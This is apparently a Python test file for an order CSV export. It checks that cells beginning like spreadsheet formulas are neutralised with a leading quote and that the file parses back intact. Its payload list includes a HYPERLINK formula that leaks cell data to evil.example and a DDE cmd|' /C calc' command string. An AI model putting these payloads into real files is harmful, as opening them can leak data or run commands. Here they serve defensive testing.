"""The order export against hostile text: every cell a spreadsheet would run as a formula gets its
leading quote, and the file still reads back, with a standard CSV reader, into exactly the rows
written (quotes, separators and line breaks inside cells included)."""
import csv
import io

import pytest

from src.services.csv_export import FORMULA_STARTS, neutralise

from .factories import make_order, make_product
from .test_csv_export import URL, parse

HOSTILE_STARTS = ["=", "+", "-", "@", "\t", "\r"]
PAYLOADS = ['{}HYPERLINK("http://evil.example/?"&A1;"Cliquez")', "{}cmd|' /C calc'!A0", '{}1+1"; =2\n=3']


@pytest.fixture
def admin(login_as):
    return login_as("admin")


def export_rows(client, headers):
    response = client.get(URL, headers=headers)
    assert response.status_code == 200
    return parse(response.get_data())


@pytest.mark.parametrize("start", HOSTILE_STARTS)
def test_names_and_phones_starting_like_a_formula_read_back_quoted(client, admin, start):
    names = [payload.format(start) for payload in PAYLOADS]
    product = make_product(name=f"{start}Produit; \"spécial\"\nligne 2")
    orders = [make_order((product, 1), customer_name=name, customer_phone=f"{start}212 600",
                         delivery_city=f"{start}Casablanca", note=f"{start}SUM(A1:A9)") for name in names]
    rows = export_rows(client, admin)
    assert len(rows) == 1 + len(orders)
    by_reference = {row[0]: row for row in rows[1:]}
    for order, name in zip(orders, names):
        row = by_reference[order.reference]
        assert row[2] == "'" + name
        assert row[3] == f"'{start}212 600"
        assert row[5] == f"1 × {start}Produit; \"spécial\"\nligne 2"
        assert not any(cell.startswith(tuple(HOSTILE_STARTS)) for cell in row)


def test_the_export_never_writes_the_city_or_the_note(client, admin):
    """Not in the contract's columns: hostile text there cannot reach the file at all."""
    make_order((make_product(), 1), delivery_city="=Casablanca()", note="@SUM(A1)")
    data = client.get(URL, headers=admin).get_data().decode()
    assert "Casablanca()" not in data and "SUM(A1)" not in data


@pytest.mark.parametrize("text", ["Dr =Amina", "Clinique +Atlas", " =1+1", "", "'=déjà cité", "100 %"])
def test_harmless_text_is_left_as_it_is(client, admin, text):
    make_order((make_product(), 1), customer_name=text or "x", customer_phone=None)
    row = export_rows(client, admin)[1]
    assert row[2] == (text or "x")
    assert row[3] == ""


def test_neutralise_covers_exactly_the_owasp_starts():
    assert set(FORMULA_STARTS) == set(HOSTILE_STARTS)
    for start in HOSTILE_STARTS:
        assert neutralise(start + "x") == "'" + start + "x"
    assert neutralise(None) == ""
    assert neutralise(12) == "12"


def test_the_file_parses_back_with_a_default_reader_too(client, admin):
    """A reader told only the delimiter (csv.Sniffer-free, default quoting) gets the same cells."""
    make_order((make_product(name='Gants "XL";\r\nnitrile'), 2), customer_name='=Dr "Sara"\r\n; Lahlou')
    text = client.get(URL, headers=admin).get_data().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert rows[1][2] == '\'=Dr "Sara"\r\n; Lahlou'
    assert rows[1][5] == '2 × Gants "XL";\r\nnitrile'
    assert len(rows) == 2
